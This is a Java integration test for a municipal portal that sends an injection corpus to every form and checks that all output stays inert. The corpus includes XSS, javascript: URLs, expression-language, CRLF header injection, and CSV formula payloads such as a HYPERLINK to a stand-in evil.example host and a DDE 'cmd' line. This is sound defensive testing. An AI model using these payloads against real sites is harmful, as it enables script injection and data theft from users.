package jp.renkei.portal.it.security;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import jp.renkei.portal.app.ApiApplication;
import jp.renkei.portal.it.pages.KeycloakLoginPage;
import jp.renkei.portal.it.support.AtOnce;
import jp.renkei.portal.it.support.Browser;
import jp.renkei.portal.it.support.Callers;
import jp.renkei.portal.it.support.Mailbox;
import jp.renkei.portal.it.support.PortalHttp;
import jp.renkei.portal.it.support.StackExtension;
import jp.renkei.portal.it.support.TestStack;
import jp.renkei.portal.platform.security.PortalRole;
import jp.renkei.portal.platform.tenancy.AdminPages;
import jp.renkei.portal.platform.tenancy.CirclePage;
import jp.renkei.portal.platform.tenancy.CirclePages;
import jp.renkei.portal.platform.tenancy.FrontController;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.ExtendWith;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.NoAlertPresentException;

/**
 * The attack corpus (issue 16): every form the portal has — found by crawling the page registries
 * ({@link CirclePages}, {@link AdminPages}, the personal and portal pages) as every kind of person
 * who may open them — is sent script and event-handler injections, {@code javascript:} URLs,
 * attribute breakouts, expression-language, CSV formulas, control characters, 100,000 characters
 * and invalid numbers and dates; then every page, feed, CSV, calendar, PDF and API answer where the
 * values may appear is read, over HTTP and in Chromium with a dialog watch: no script runs, no
 * element is injected, no expression is evaluated, no answer is a 500, and a refused submission
 * leaves nothing behind. Then twenty parallel identical copies of each kind of form that had an
 * effect have exactly one.
 *
 * <p>It changes the demo circle freely (it presses every button of every form with free text), so
 * it runs after every other test but the outage test, which takes the stack away.
 */
@ExtendWith(StackExtension.class)
@Order(Integer.MAX_VALUE - 1)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class AttackCorpusIT {

  private static final String CIRCLE = "aomori";
  private static final String BASE = "/c/" + CIRCLE + "/";
  private static final int IDS_PER_PAGE = 2;
  private static final int PARALLEL = 20;

  /** The 青森 circle's members by role, a resident, the portal administrator and a visitor. */
  private static final Map<String, Optional<PortalRole>> CALLERS = new LinkedHashMap<>();

  static {
    CALLERS.put("aomori-mayor", Optional.of(PortalRole.CENTRAL_CITY_STAFF));
    CALLERS.put("hiranai-staff", Optional.of(PortalRole.PARTNER_STAFF));
    CALLERS.put("hiranai-council", Optional.of(PortalRole.COUNCIL_MEMBER));
    CALLERS.put("roundtable-aomori", Optional.of(PortalRole.ROUNDTABLE_MEMBER));
    CALLERS.put("resident", Optional.empty());
    CALLERS.put("admin", Optional.empty());
  }

  private static final Pattern LINK = Pattern.compile("href=\"(/[^\"#]*)\"");
  private static final Pattern EVALUATED = Pattern.compile("CORPUS\\d+-49");
  private static final String INJECTED = "data-corpus-injected";

  /** What each kind of form was sent, and which had an effect the page shows. */
  private static final List<Sent> EFFECTIVE = new ArrayList<>();

  private static final Set<String> HTML_PAGES = new LinkedHashSet<>();
  private static final Set<String> DOWNLOADS = new LinkedHashSet<>();
  private static int counter;

  private final TestStack stack;

  AttackCorpusIT(TestStack stack) {
    this.stack = stack;
  }

  /** One kind of form as one person sees it: the page, the form's id and the button pressed. */
  private record FormKind(String caller, String page, String formId, String button) {}

  /** A submission that had an effect: how often its marker stood on the page afterwards. */
  private record Sent(FormKind kind, int occurrences) {}

  @Test
  @Order(1)
  void everyFormTakesTheCorpusAndEveryPageShowsItInert() {
    Map<FormKind, String> kinds = new LinkedHashMap<>();
    for (String caller : CALLERS.keySet()) {
      PortalHttp http = Callers.as(stack, caller);
      for (Map.Entry<String, String> page : crawl(http, CALLERS.get(caller), caller).entrySet()) {
        if (caller.equals("aomori-mayor") || caller.equals("admin")) {
          HTML_PAGES.add(page.getKey());
        }
        Document doc = Jsoup.parse(page.getValue());
        for (Element form : doc.select("form[method=post]")) {
          if (!takesText(form) || form.attr("enctype").contains("multipart")) {
            continue;
          }
          for (Element button : buttons(form)) {
            kinds.putIfAbsent(
                new FormKind(caller, page.getKey(), form.id(), button.attr("name")),
                normalise(caller, page.getKey(), form.id(), button.attr("name")));
          }
        }
      }
    }
    // One of each kind: the same form on a second object of the same page is the same form.
    Map<String, FormKind> distinct = new LinkedHashMap<>();
    kinds.forEach((kind, key) -> distinct.putIfAbsent(key, kind));
    assertTrue(
        distinct.size() >= 40,
        "the crawl found the portal's forms (" + distinct.size() + "): " + distinct.keySet());
    System.out.printf("[corpus] %d kinds of form, %d pages%n", distinct.size(), HTML_PAGES.size());

    int sent = 0;
    for (FormKind kind : distinct.values()) {
      PortalHttp http = Callers.as(stack, kind.caller());
      for (Variant variant : Variant.values()) {
        sent += send(http, kind, variant) ? 1 : 0;
      }
    }
    System.out.printf(
        "[corpus] %d submissions answered, %d with a visible effect%n", sent, EFFECTIVE.size());
    assertTrue(EFFECTIVE.size() >= 10, "the valid variant took effect somewhere: " + EFFECTIVE);

    readEverythingBack();
    readTheMail();
    readInTheBrowser();
  }

  @Test
  @Order(2)
  void twentyIdenticalCopiesOfEachKindOfFormHaveOneEffect() {
    assertTrue(EFFECTIVE.size() >= 10, "forms with an effect to repeat: " + EFFECTIVE.size());
    int repeated = 0;
    for (Sent first : EFFECTIVE) {
      FormKind kind = first.kind();
      PortalHttp http = Callers.as(stack, kind.caller());
      Optional<Submission> submission = prepare(http, kind, Variant.VALID);
      if (submission.isEmpty()) {
        continue; // the first submission changed the page: the form is gone (a step done once)
      }
      for (HttpResponse<String> copy :
          AtOnce.send(
              PARALLEL, () -> http.postForm(submission.get().action(), submission.get().body()))) {
        assertTrue(copy.statusCode() < 500, kind + ": a copy answered " + copy.statusCode());
      }
      String after = http.get(kind.page()).body();
      assertEquals(
          first.occurrences(),
          occurrences(after, submission.get().marker()),
          kind + ": twenty copies at once had the effect of one");
      repeated++;
    }
    System.out.printf("[corpus] %d kinds of form sent twenty times at once%n", repeated);
    assertTrue(repeated >= 5, "kinds repeated: " + repeated);
  }

  // --- the crawl -------------------------------------------------------------------------------

  /**
   * The HTML pages a person may open, from the registries, with up to two objects per page, and
   * what each showed.
   */
  private Map<String, String> crawl(PortalHttp http, Optional<PortalRole> role, String caller) {
    List<String> start = new ArrayList<>();
    for (CirclePage page : new CirclePages().all()) {
      boolean html = page.viewFile().endsWith(".xhtml");
      boolean mayOpen =
          !page.access().membersOnly() || role.map(page.access().roles()::contains).orElse(false);
      if (!page.hasId() && mayOpen && html) {
        start.add(BASE + page.path());
      } else if (!page.hasId() && mayOpen) {
        DOWNLOADS.add(BASE + page.path());
      }
    }
    if (caller.equals("admin")) {
      for (AdminPages.AdminPage page : AdminPages.PAGES) {
        start.add("/admin/" + page.path().replace("{slug}", CIRCLE));
      }
    }
    FrontController.PERSONAL.forEach(
        (path, page) -> {
          if (page.signedIn() && !path.equals("/follow/confirm")) {
            start.add(path);
          }
        });
    start.addAll(FrontController.PORTAL_PAGES.keySet());

    Map<String, String> pages = new LinkedHashMap<>();
    Map<String, Integer> idsPerPage = new HashMap<>();
    List<String> queue = new ArrayList<>(start);
    Set<String> seen = new LinkedHashSet<>(start);
    while (!queue.isEmpty()) {
      String path = queue.remove(0);
      HttpResponse<String> answer = http.get(path);
      if (answer.statusCode() != 200) {
        assertTrue(answer.statusCode() < 500, caller + " " + path + ": " + answer.statusCode());
        continue;
      }
      pages.put(path, answer.body());
      Matcher link = LINK.matcher(answer.body());
      while (link.find()) {
        String target = link.group(1).replace("&amp;", "&");
        if (!target.startsWith(BASE) || target.contains("?")) {
          continue;
        }
        Optional<CirclePages.Match> match =
            new CirclePages().match(target.substring(BASE.length()));
        if (match.isEmpty() || match.get().id().isEmpty()) {
          continue;
        }
        CirclePage page = match.get().page();
        if (!page.viewFile().endsWith(".xhtml")) {
          DOWNLOADS.add(target);
          continue;
        }
        if (seen.add(target) && idsPerPage.merge(page.path(), 1, Integer::sum) <= IDS_PER_PAGE) {
          queue.add(target);
        }
      }
    }
    return pages;
  }

  private static String normalise(String caller, String page, String formId, String button) {
    return caller
        + " "
        + page.replaceAll("/[0-9]+", "/{id}")
        + " "
        + formId
        + " "
        + button.replaceAll(":[0-9]+:", ":#:");
  }

  /** True for a form a person types into (text, a number, a date, an address). */
  private static boolean takesText(Element form) {
    return !form.select(
            "textarea, input:not([type=hidden], [type=submit], [type=button], [type=checkbox],"
                + " [type=radio], [type=file], [type=image], [type=reset])")
        .isEmpty();
  }

  private static List<Element> buttons(Element form) {
    List<Element> found = new ArrayList<>();
    for (Element b : form.select("input[type=submit][name], button[name]")) {
      if (!b.attr("type").equals("button") && !b.hasAttr("disabled")) {
        found.add(b);
      }
    }
    return found;
  }

  // --- the corpus ------------------------------------------------------------------------------

  /**
   * How the fields of a form are filled. The attacks put a payload in every field, typed ones too
   * (invalid numbers and dates); the valid variant puts markup and expressions in the free-text
   * fields and valid values in the typed ones, so that the form takes effect and its value is
   * shown.
   */
  private enum Variant {
    MARKUP,
    FORMULAS,
    OVERLONG,
    VALID
  }

  private static String payload(Variant variant, String marker, int field) {
    return switch (variant) {
      case MARKUP ->
          List.of(
                  "<script>alert('" + marker + "')</script>",
                  marker + "\"><img src=x " + INJECTED + " onerror=alert(1)>",
                  "javascript:alert(1)//" + marker,
                  marker + "' onmouseover='alert(1)' " + INJECTED + "='")
              .get(field % 4);
      case FORMULAS ->
          List.of(
                  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"" + marker + "\")",
                  marker + "-#{7*7}-${7*7}",
                  "@SUM(1+1)*cmd|' /C calc'!A0 " + marker,
                  marker + "\u0000\u0007\u001b[31m\u202e\r\nX-CORPUS-INJECTED:1")
              .get(field % 4);
      case OVERLONG -> field == 0 ? marker + "あ".repeat(100_000) : marker;
      case VALID ->
          "+"
              + marker
              + "-#{7*7}-${7*7}\"><img src=x "
              + INJECTED
              + " onerror=alert(1)><script>alert(1)</script>";
    };
  }

  private static String typed(Variant variant, Element input) {
    String type = input.attr("type");
    if (variant != Variant.VALID) {
      return variant == Variant.MARKUP ? "abc" : "99999999999999999999";
    }
    LocalDate day = LocalDate.now().plusDays(40);
    return switch (type) {
      case "date" -> day.toString();
      case "datetime-local" -> day + "T10:00";
      case "time" -> "10:00";
      case "month" -> day.toString().substring(0, 7);
      case "number" -> input.hasAttr("min") ? input.attr("min") : "1";
      case "email" -> "corpus@example.org";
      case "url" -> "https://example.org/corpus";
      case "tel" -> "017-000-0000";
      default -> "1";
    };
  }

  /** A filled form: where it goes, its body, its marker, and whether a field got 100,000 chars. */
  private record Submission(String action, String body, String marker, boolean overlong) {}

  /** The form of this kind on a freshly rendered page, filled for the variant; empty if gone. */
  private Optional<Submission> prepare(PortalHttp http, FormKind kind, Variant variant) {
    HttpResponse<String> page = http.get(kind.page());
    assertTrue(page.statusCode() < 500, kind + ": " + page.statusCode());
    Element form = Jsoup.parse(page.body()).getElementById(kind.formId());
    if (form == null || form.selectFirst("[name=\"" + kind.button() + "\"]") == null) {
      return Optional.empty();
    }
    String marker = "CORPUS" + (++counter);
    StringBuilder body = new StringBuilder();
    Set<String> radios = new LinkedHashSet<>();
    int field = 0;
    for (Element input : form.select("input, textarea, select")) {
      String name = input.attr("name");
      String type = input.tagName().equals("input") ? input.attr("type") : input.tagName();
      if (name.isEmpty() || input.hasAttr("disabled")) {
        continue;
      }
      String value;
      switch (type) {
        case "submit", "button", "file", "image", "reset" -> {
          continue;
        }
        case "hidden" -> value = input.val();
        case "checkbox" -> value = input.hasAttr("value") ? input.val() : "on";
        case "radio" -> {
          if (!radios.add(name)) {
            continue;
          }
          value = input.val();
        }
        case "select" -> {
          Element option = input.selectFirst("option:not([value=''])");
          if (option == null) {
            continue;
          }
          value = option.hasAttr("value") ? option.val() : option.text();
        }
        case "textarea", "text", "", "search" -> value = payload(variant, marker, field++);
        default ->
            value =
                variant == Variant.VALID || field % 2 == 0
                    ? typed(variant, input)
                    : payload(variant, marker, field++);
      }
      append(body, name, value);
    }
    append(body, kind.button(), form.selectFirst("[name=\"" + kind.button() + "\"]").val());
    String action = form.attr("action").isEmpty() ? kind.page() : form.attr("action");
    boolean overlong = variant == Variant.OVERLONG && body.length() > 100_000;
    return Optional.of(new Submission(action, body.toString(), marker, overlong));
  }

  private static void append(StringBuilder body, String name, String value) {
    if (body.length() > 0) {
      body.append('&');
    }
    body.append(URLEncoder.encode(name, StandardCharsets.UTF_8))
        .append('=')
        .append(URLEncoder.encode(value, StandardCharsets.UTF_8));
  }

  /** Sends one variant; checks the answer and, for a refused one, that nothing was kept. */
  private boolean send(PortalHttp http, FormKind kind, Variant variant) {
    Optional<Submission> submission = prepare(http, kind, variant);
    if (submission.isEmpty()) {
      return false;
    }
    HttpResponse<String> answer = http.postForm(submission.get().action(), submission.get().body());
    String where = kind + " " + variant;
    assertTrue(answer.statusCode() < 500, where + ": answered " + answer.statusCode());
    assertInert(answer.body(), where);
    String after = http.get(kind.page()).body();
    assertInert(after, where + ", the page afterwards");
    int shown = occurrences(after, submission.get().marker());
    boolean taken = answer.statusCode() == 302 || answer.statusCode() == 303;
    if (!taken && answer.statusCode() == 200) {
      assertEquals(0, shown, where + ": refused, and nothing of it was kept");
    }
    if (submission.get().overlong() && answer.statusCode() == 200) {
      assertTrue(answer.body().contains("文字以内"), where + ": the message says the field's limit");
    }
    if (taken && variant == Variant.VALID && shown > 0) {
      EFFECTIVE.add(new Sent(kind, shown));
    }
    return true;
  }

  /**
   * Markup shown as text, expressions not evaluated: as a browser would read it, no injected
   * element, no event-handler attribute, no script that calls for a dialog.
   */
  private static void assertInert(String body, String where) {
    Document doc = Jsoup.parse(body);
    assertTrue(doc.select("[" + INJECTED + "]").isEmpty(), where + ": an injected element");
    for (Element element : doc.getAllElements()) {
      element
          .attributes()
          .forEach(
              a ->
                  assertTrue(
                      !a.getKey().startsWith("on"),
                      where + ": an event handler " + a.getKey() + " on " + element.tagName()));
    }
    for (Element script : doc.select("script")) {
      assertTrue(!script.data().contains("alert("), where + ": an injected script");
    }
    assertTrue(!EVALUATED.matcher(body).find(), where + ": an expression was evaluated");
  }

  private static int occurrences(String body, String marker) {
    int count = 0;
    for (int at = body.indexOf(marker); at >= 0; at = body.indexOf(marker, at + 1)) {
      count++;
    }
    return count;
  }

  // --- reading it back -------------------------------------------------------------------------

  private void readEverythingBack() {
    PortalHttp mayor = Callers.as(stack, "aomori-mayor");
    PortalHttp visitor = PortalHttp.anonymous(stack);
    for (String page : HTML_PAGES) {
      PortalHttp http = page.startsWith("/admin") ? Callers.as(stack, "admin") : mayor;
      HttpResponse<String> answer = http.get(page);
      assertTrue(answer.statusCode() < 500, page + ": " + answer.statusCode());
      assertInert(answer.body(), page);
    }
    List<String> reads = new ArrayList<>(DOWNLOADS);
    reads.addAll(
        List.of(
            "/feeds/notices.atom",
            "/feeds/open-for-comment.atom",
            "/search?q=CORPUS",
            "/sitemaps/c/" + CIRCLE + ".xml"));
    for (Class<?> resource : ApiApplication.RESOURCES) {
      String path = resource.getAnnotation(jakarta.ws.rs.Path.class).value();
      if (!path.contains("{id}") && !path.contains("{code}")) {
        reads.add(
            "/api/"
                + path.replace("{slug}", CIRCLE)
                + (path.contains("search") ? "?q=CORPUS" : ""));
      }
    }
    int csvCells = 0;
    for (String read : reads) {
      for (PortalHttp http : List.of(mayor, visitor)) {
        HttpResponse<String> answer = http.get(read);
        String where = read + " as " + http.username();
        assertTrue(answer.statusCode() < 500, where + ": " + answer.statusCode());
        if (read.endsWith(".pdf")) {
          continue;
        }
        String type = answer.headers().firstValue("Content-Type").orElse("");
        if (type.contains("html") || type.contains("xml")) {
          assertInert(answer.body(), where);
        } else {
          // JSON, CSV and calendars carry the text as typed, for their own readers.
          assertTrue(!EVALUATED.matcher(answer.body()).find(), where + ": evaluated");
        }
        for (String line : answer.body().split("\r?\n")) {
          assertTrue(!line.startsWith("X-CORPUS-INJECTED"), where + ": a line was injected");
          if (read.endsWith(".csv") && line.contains("CORPUS")) {
            for (String cell : line.split(",")) {
              String value = cell.startsWith("\"") ? cell.substring(1) : cell;
              csvCells++;
              assertTrue(
                  value.isEmpty() || "=+-@\t\r".indexOf(value.charAt(0)) < 0,
                  where + ": a cell a spreadsheet would run: " + cell);
            }
          }
        }
      }
    }
    System.out.printf(
        "[corpus] %d pages and %d downloads read back, %d CSV cells checked%n",
        HTML_PAGES.size(), reads.size(), csvCells);
  }

  /** Mail is plain text and a calendar: no header or calendar line injected, nothing evaluated. */
  private void readTheMail() {
    Mailbox.settle();
    int read = 0;
    for (Mailbox.Mail mail : new Mailbox(stack).all()) {
      String text = mail.subject() + "\n" + mail.textOrEmpty();
      if (!text.contains("CORPUS")) {
        continue;
      }
      read++;
      String where = "the mail \"" + mail.subject() + "\"";
      assertEquals("", mail.header("X-CORPUS-INJECTED"), where + ": a header was injected");
      assertTrue(!EVALUATED.matcher(text).find(), where + ": evaluated");
      for (String line : mail.calendar().orElse("").split("\r?\n")) {
        assertTrue(!line.startsWith("X-CORPUS-INJECTED"), where + ": a calendar line injected");
      }
    }
    System.out.printf("[corpus] %d mails carrying the corpus read%n", read);
  }

  private void readInTheBrowser() {
    try (Browser browser = Browser.open(stack)) {
      browser.visit("/signin?next=/inbox");
      new KeycloakLoginPage(browser).signIn("aomori-mayor", PortalHttp.DEMO_PASSWORD);
      browser.find(By.id("main"));
      JavascriptExecutor js = (JavascriptExecutor) browser.driver();
      for (String page : HTML_PAGES) {
        if (page.startsWith("/admin")) {
          continue;
        }
        browser.visit(page);
        browser.find(By.id("main"));
        try {
          String text = browser.driver().switchTo().alert().getText();
          throw new AssertionError(page + ": a script ran and opened a dialog: " + text);
        } catch (NoAlertPresentException none) {
          // as it should be
        }
        Object injected =
            js.executeScript("return document.querySelectorAll('[" + INJECTED + "]').length");
        assertEquals(0L, injected, page + ": an element was injected");
        assertTrue(!EVALUATED.matcher(browser.pageText()).find(), page + ": evaluated");
      }
    }
  }
}
